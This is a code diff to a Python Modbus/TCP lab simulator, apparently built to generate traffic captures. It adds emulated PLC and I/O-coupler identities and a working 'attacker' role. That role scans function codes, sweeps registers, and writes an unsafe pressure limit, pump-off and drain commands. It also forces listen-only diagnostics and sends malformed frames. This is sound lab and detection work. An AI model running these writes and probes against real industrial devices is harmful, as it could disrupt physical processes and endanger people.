@@ -1,13 +1,17 @@
-"""Modbus/TCP roles: pymodbus servers for plc1 and rtu1, and the HMI that polls them.
+"""Modbus/TCP roles: pymodbus servers for plc1 and rtu1, the HMI that polls them, an attacker.
 
 plc1 unit 1 is the pumping-station controller, unit 2 the pump's drive behind it; rtu1 is an
 I/O coupler. Each uses the classic four separate tables (coils, discrete inputs, holding
-registers, input registers). Every FC4 read advances the unit's process model one scan.
+registers, input registers). Every FC4 read advances the unit's process model one scan. Each
+server carries a device identity (FC43/MEI 14, FC17) and answers every function code pymodbus
+does not implement with exception 01 (illegal function).
 """
 
 from __future__ import annotations
 
 import asyncio
+import random
+import struct
 import time
 from collections.abc import Awaitable, Callable
 from typing import Any
@@ -18,7 +22,10 @@ from lab.roles import RoleArgs, announce_ready, role, until_sigterm
 PORT = 502
 FC_READ_DISCRETE_INPUTS = 2
 FC_READ_INPUT_REGISTERS = 4
+ILLEGAL_FUNCTION = 1
 ILLEGAL_DATA_ADDRESS = 2
+#: public and user-defined function codes (128..255 are exception responses)
+FUNCTION_CODES = range(1, 128)
 
 
 def _u16(value: float) -> int:
@@ -191,16 +198,83 @@ DEVICES: dict[str, Callable[[int], list[Any]]] = {
     "io-coupler": io_coupler,
 }
 
+#: what each device answers to FC43/MEI 14 (objects 0-6) and, joined by "-", to FC17
+IDENTITIES: dict[str, dict[str, str]] = {
+    "pump-station": {
+        "VendorName": "Schneider Electric",
+        "ProductCode": "BMXP342020",
+        "MajorMinorRevision": "V3.20",
+        "VendorUrl": "http://www.se.com",
+        "ProductName": "Modicon M340",
+        "ModelName": "BMX P34 2020",
+        "UserApplicationName": "PUMP_STATION_1",
+    },
+    "io-coupler": {
+        "VendorName": "WAGO Kontakttechnik GmbH & Co. KG",
+        "ProductCode": "750-352",
+        "MajorMinorRevision": "01.10.05",
+        "VendorUrl": "http://www.wago.com",
+        "ProductName": "ETHERNET Fieldbus Coupler",
+        "ModelName": "750-352 G3",
+        "UserApplicationName": "RTU1 INLET",
+    },
+}
+
+
+def raw_function(fc: int) -> type[Any]:
+    """A PDU class for a function code pymodbus does not implement.
+
+    A client sends it with a 4-byte body (address 0, quantity 1, as scanners do); a server
+    registered with it answers exception 01 (illegal function) with function code fc | 0x80.
+    Without it pymodbus fails to decode the request and answers function code 0x80 instead.
+    """
+    from pymodbus.pdu import ExceptionResponse, ModbusPDU
+
+    class RawFunction(ModbusPDU):
+        function_code = fc
+
+        def __init__(
+            self, body: bytes = b"\x00\x00\x00\x01", dev_id: int = 1, transaction_id: int = 0
+        ) -> None:
+            super().__init__(dev_id=dev_id, transaction_id=transaction_id)
+            self.body = body
+
+        def encode(self) -> bytes:
+            return self.body
+
+        def decode(self, data: bytes) -> None:
+            self.body = data
+
+        async def datastore_update(self, context: Any, device_id: int) -> ModbusPDU:
+            return ExceptionResponse(self.function_code, ILLEGAL_FUNCTION)
+
+    RawFunction.__name__ = RawFunction.__qualname__ = f"Function{fc}"
+    return RawFunction
+
+
+def implemented_functions() -> set[int]:
+    """Function codes pymodbus decodes (and its server serves)."""
+    from pymodbus.pdu import DecodePDU
+
+    return set(DecodePDU(True).list_function_codes())
+
 
 @role("modbus-server")
 def modbus_server(args: RoleArgs) -> None:
-    """Serve one of DEVICES on args["ip"]:502 until SIGTERM."""
+    """Serve one of DEVICES on args["ip"]:args["port"] (502) until SIGTERM."""
+    from pymodbus.pdu.device import ModbusDeviceIdentification
     from pymodbus.server import ModbusTcpServer
 
     devices = DEVICES[args["device"]](int(args["seed"]))
+    identity = ModbusDeviceIdentification(info_name=IDENTITIES[args["device"]])
+    implemented = implemented_functions()
+    unsupported = [raw_function(fc) for fc in FUNCTION_CODES if fc not in implemented]
+    address = (args["ip"], int(args.get("port", PORT)))
 
     async def serve() -> None:
-        server: Any = ModbusTcpServer(devices, address=(args["ip"], PORT))
+        server: Any = ModbusTcpServer(
+            devices, address=address, identity=identity, custom_pdu=unsupported
+        )
         await server.serve_forever(background=True)
         announce_ready()
         await until_sigterm()
@@ -212,16 +286,17 @@ def modbus_server(args: RoleArgs) -> None:
 class _Poller:
     """One HMI connection; every request must succeed unless it is meant to fail."""
 
-    def __init__(self, host: str) -> None:
+    def __init__(self, host: str, port: int = PORT) -> None:
         from pymodbus.client import AsyncModbusTcpClient
 
         self.host = host
-        self.client = AsyncModbusTcpClient(host, port=PORT, timeout=2, retries=0)
+        self.port = port
+        self.client = AsyncModbusTcpClient(host, port=port, timeout=2, retries=0)
         self.requests = 0
 
     async def connect(self) -> None:
         if not await self.client.connect():
-            raise SystemExit(f"modbus: cannot connect to {self.host}:{PORT}")
+            raise SystemExit(f"modbus: cannot connect to {self.host}:{self.port}")
 
     async def __call__(self, method: str, *args: Any, unit: int = 1, **kwargs: Any) -> Any:
         self.requests += 1
@@ -240,11 +315,13 @@ class _Poller:
 @role("modbus-hmi")
 def modbus_hmi(args: RoleArgs) -> None:
     """Poll plc1 every args["period"] s for args["duration"] s, and rtu1 every fifth cycle."""
-    asyncio.run(_hmi(args["plc"], args["rtu"], float(args["duration"]), float(args["period"])))
+    port = int(args.get("port", PORT))
+    duration, period = float(args["duration"]), float(args["period"])
+    asyncio.run(_hmi(args["plc"], args["rtu"], duration, period, port))
 
 
-async def _hmi(plc_ip: str, rtu_ip: str, duration: float, period: float) -> None:
-    plc, rtu = _Poller(plc_ip), _Poller(rtu_ip)
+async def _hmi(plc_ip: str, rtu_ip: str, duration: float, period: float, port: int) -> None:
+    plc, rtu = _Poller(plc_ip, port), _Poller(rtu_ip, port)
     await plc.connect()
     await rtu.connect()
     cycles = max(10, round(duration / period))
@@ -280,3 +357,205 @@ async def _hmi(plc_ip: str, rtu_ip: str, duration: float, period: float) -> None
     rtu.client.close()
     await asyncio.sleep(0.2)
     print(f"modbus-hmi: {plc.requests} requests to {plc_ip}, {rtu.requests} to {rtu_ip}")
+
+
+# --------------------------------------------------------------------------------------------
+# The attacker: a rogue laptop that scans, sweeps, writes, diagnoses, identifies and fuzzes.
+# --------------------------------------------------------------------------------------------
+
+
+def scan_calls() -> dict[int, tuple[str, tuple[Any, ...], dict[str, Any]]]:
+    """FC scan requests for the function codes pymodbus implements: harmless reads, and writes
+    of the value already there to a register and a coil nobody uses (plc1 unit 1 HR 63, coil
+    31). Every other function code goes out as raw_function(fc)."""
+    from pymodbus.pdu.file_message import FileRecord
+
+    # FileRecord takes a length in bytes and halves it: 4 bytes = 2 registers
+    read_record = FileRecord(file_number=1, record_number=0, record_length=4)
+    write_record = FileRecord(file_number=1, record_number=0, record_data=b"\x00\x00")
+    return {
+        1: ("read_coils", (0,), {"count": 1}),
+        2: ("read_discrete_inputs", (0,), {"count": 1}),
+        3: ("read_holding_registers", (0,), {"count": 1}),
+        4: ("read_input_registers", (0,), {"count": 1}),
+        5: ("write_coil", (31, False), {}),
+        6: ("write_register", (63, 0), {}),
+        7: ("read_exception_status", (), {}),
+        8: ("diag_query_data", (b"\x00\x00",), {}),
+        11: ("diag_get_comm_event_counter", (), {}),
+        12: ("diag_get_comm_event_log", (), {}),
+        15: ("write_coils", (31, [False]), {}),
+        16: ("write_registers", (63, [0]), {}),
+        17: ("report_device_id", (), {}),
+        20: ("read_file_record", ([read_record],), {}),
+        21: ("write_file_record", ([write_record],), {}),
+        22: ("mask_write_register", (), {"address": 63, "and_mask": 0xFFFF, "or_mask": 0}),
+        23: (
+            "readwrite_registers",
+            (),
+            {"read_address": 0, "read_count": 1, "write_address": 63, "values": [0]},
+        ),
+        24: ("read_fifo_queue", (), {"address": 0}),
+        43: ("read_device_information", (), {"read_code": 1}),
+    }
+
+
+def _mbap(tid: int, pdu: bytes, *, protocol: int = 0, length: int | None = None) -> bytes:
+    """An MBAP header (unit 1) and PDU; length defaults to the true one (unit id + PDU)."""
+    true_length = len(pdu) + 1
+    return struct.pack(">HHHB", tid, protocol, true_length if length is None else length, 1) + pdu
+
+
+def malformed_frames(rng: random.Random, plc_ip: str, port: int) -> list[tuple[str, bytes]]:
+    """What the attacker writes to raw TCP connections: ADUs pymodbus cannot produce."""
+    read10 = struct.pack(">BHH", 3, 0, 10)  # FC3, HR 0, 10 registers
+    # FC16 of 123 registers (the maximum) at HR 0x1000, then an overflow of "A"s: length 300
+    oversize = struct.pack(">BHHB", 16, 0x1000, 123, 246) + b"A" * (246 + 47)
+    http = f"GET / HTTP/1.1\r\nHost: {plc_ip}:{port}\r\nUser-Agent: curl/7.88.1\r\n"
+    http += "Accept: */*\r\n\r\n"
+    tid = lambda: rng.randrange(0x0100, 0xFFFF)  # noqa: E731
+    return [
+        ("protocol id 0x0001", _mbap(tid(), read10, protocol=1)),
+        ("MBAP length 4, 6 bytes follow", _mbap(tid(), read10, length=4)),
+        ("MBAP length 16, 6 bytes follow", _mbap(tid(), read10, length=16)),
+        ("MBAP length 300 (> 260)", _mbap(tid(), oversize)),
+        ("zero-length PDU (MBAP length 1)", _mbap(tid(), b"")),
+        ("reserved function code 0", _mbap(tid(), struct.pack(">BHH", 0, 0, 1))),
+        ("HTTP GET to port 502", http.encode()),
+    ]
+
+
+class _Attacker:
+    """The attack session's clock and pacing, and one pymodbus connection per target."""
+
+    def __init__(self, duration: float, seed: int) -> None:
+        self.rng = random.Random(seed)
+        self.start = time.monotonic()
+        self.pause = duration / 40  # between steps
+        self.gap = duration / 1200  # between the requests of a scan or sweep
+        self.linger = duration / 48  # how long a raw connection waits for an answer
+        self.requests = 0
+
+    def step(self, what: str) -> None:
+        print(f"modbus-attacker: {time.monotonic() - self.start:5.2f} s {what}", flush=True)
+
+    async def call(self, client: Any, method: str, *args: Any, **kwargs: Any) -> Any:
+        self.requests += 1
+        return await getattr(client, method)(*args, device_id=1, **kwargs)
+
+    async def expect_ok(self, client: Any, method: str, *args: Any, **kwargs: Any) -> Any:
+        result = await self.call(client, method, *args, **kwargs)
+        if result is None or result.isError():
+            raise SystemExit(f"modbus-attacker: {method}{args}: {result}")
+        return result
+
+
+async def _raw_exchange(ip: str, port: int, data: bytes, linger: float) -> bytes:
+    """Open a TCP connection, write data, read what comes back within linger s, close."""
+    reader, writer = await asyncio.open_connection(ip, port)
+    writer.write(data)
+    await writer.drain()
+    try:
+        reply = await asyncio.wait_for(reader.read(1024), linger)
+    except TimeoutError:
+        reply = b""
+    writer.close()
+    await writer.wait_closed()
+    return reply
+
+
+@role("modbus-attacker")
+def modbus_attacker(args: RoleArgs) -> None:
+    """Attack plc1 (and identify rtu1) while the HMI polls; see pcaps/README.md."""
+    asyncio.run(_attack(args["plc"], args["rtu"], float(args["duration"]), int(args["seed"])))
+
+
+async def _fc_scan(at: _Attacker, plc: Any) -> str:
+    implemented, calls = implemented_functions(), scan_calls()
+    answered, illegal = [], []
+    for fc in FUNCTION_CODES:
+        if fc in calls:
+            method, args, kwargs = calls[fc]
+            result = await at.call(plc, method, *args, **kwargs)
+        else:
+            at.requests += 1
+            result = await plc.execute(False, raw_function(fc)(dev_id=1))
+        if result.isError():
+            if result.exception_code != ILLEGAL_FUNCTION or fc in implemented:
+                raise SystemExit(f"modbus-attacker: FC{fc}: {result}")
+            illegal.append(fc)
+        else:
+            answered.append(fc)
+        await asyncio.sleep(at.gap)
+    return f"answered FC {answered}, {len(illegal)} others illegal function"
+
+
+async def _attack(plc_ip: str, rtu_ip: str, duration: float, seed: int) -> None:
+    from pymodbus.client import AsyncModbusTcpClient
+
+    at = _Attacker(duration, seed)
+    await asyncio.sleep(duration / 10)  # the HMI's normal polling comes first
+    plc = AsyncModbusTcpClient(plc_ip, port=PORT, timeout=2, retries=0)
+    rtu = AsyncModbusTcpClient(rtu_ip, port=PORT, timeout=2, retries=0)
+    if not await plc.connect():
+        raise SystemExit(f"modbus-attacker: cannot connect to {plc_ip}:{PORT}")
+
+    at.step("1 function-code scan FC1-127, unit 1")
+    at.step("  " + await _fc_scan(at, plc))
+    await asyncio.sleep(at.pause)
+
+    at.step("2 holding-register sweep, FC3 64 registers every 2048 addresses")
+    exceptions = 0
+    for address in range(0, 0x10000, 2048):
+        result = await at.call(plc, "read_holding_registers", address, count=64)
+        exceptions += result.isError() and result.exception_code == ILLEGAL_DATA_ADDRESS
+        await asyncio.sleep(at.gap * 2)
+    at.step(f"  {exceptions} of 32 blocks illegal data address")
+    await asyncio.sleep(at.pause)
+
+    at.step("3 writes: FC6 HR 2, FC16 HR 3-4, FC5 coil 0, FC15 coils 0-3")
+    await at.expect_ok(plc, "write_register", 2, 1500)  # pressure limit 5.20 -> 15.00 bar
+    await asyncio.sleep(at.pause / 2)
+    await at.expect_ok(plc, "write_registers", 3, [0, 2950])  # manual mode, speed 2950 rpm
+    await asyncio.sleep(at.pause / 2)
+    await at.expect_ok(plc, "write_coil", 0, False)  # pump 1 off
+    await asyncio.sleep(at.pause / 2)
+    await at.expect_ok(plc, "write_coils", 0, [False, False, False, True])  # drain
+    await asyncio.sleep(at.pause)
+
+    at.step("4 diagnostics: FC8 sub 0 (query data), 4 (listen only), 1 (restart comms)")
+    echo = at.rng.randrange(0x10000).to_bytes(2, "big")
+    result = await at.expect_ok(plc, "diag_query_data", echo)
+    if result.message != echo:
+        raise SystemExit(f"modbus-attacker: query data {echo.hex()} came back as {result}")
+    # pymodbus sends sub-function 4 without waiting (the standard says no response comes);
+    # its server answers anyway, and the client drops that answer
+    await at.call(plc, "diag_force_listen_only")
+    await asyncio.sleep(at.pause)
+    await at.expect_ok(plc, "diag_restart_communication", False)
+    await asyncio.sleep(at.pause)
+
+    at.step("5 identification: FC43/MEI 14 basic and regular, FC17, on plc1 and rtu1")
+    if not await rtu.connect():
+        raise SystemExit(f"modbus-attacker: cannot connect to {rtu_ip}:{PORT}")
+    for host, client in ((plc_ip, plc), (rtu_ip, rtu)):
+        basic = await at.expect_ok(client, "read_device_information", read_code=1)
+        await asyncio.sleep(at.pause / 2)
+        regular = await at.expect_ok(client, "read_device_information", read_code=2)
+        await asyncio.sleep(at.pause / 2)
+        server_id = await at.expect_ok(client, "report_device_id")
+        await asyncio.sleep(at.pause / 2)
+        objects = basic.information | regular.information
+        at.step(f"  {host}: " + " / ".join(v.decode() for v in objects.values()))
+        at.step(f"  {host}: FC17 {server_id.identifier.decode()!r}")
+    rtu.close()
+    plc.close()
+    await asyncio.sleep(at.pause)
+
+    at.step("6 malformed frames on raw TCP connections to port 502")
+    for what, data in malformed_frames(at.rng, plc_ip, PORT):
+        reply = await _raw_exchange(plc_ip, PORT, data, at.linger)
+        at.requests += 1
+        at.step(f"  {what}: " + (f"answered {reply.hex(' ')}" if reply else "no answer"))
+        await asyncio.sleep(at.pause / 2)
+    at.step(f"done, {at.requests} requests")
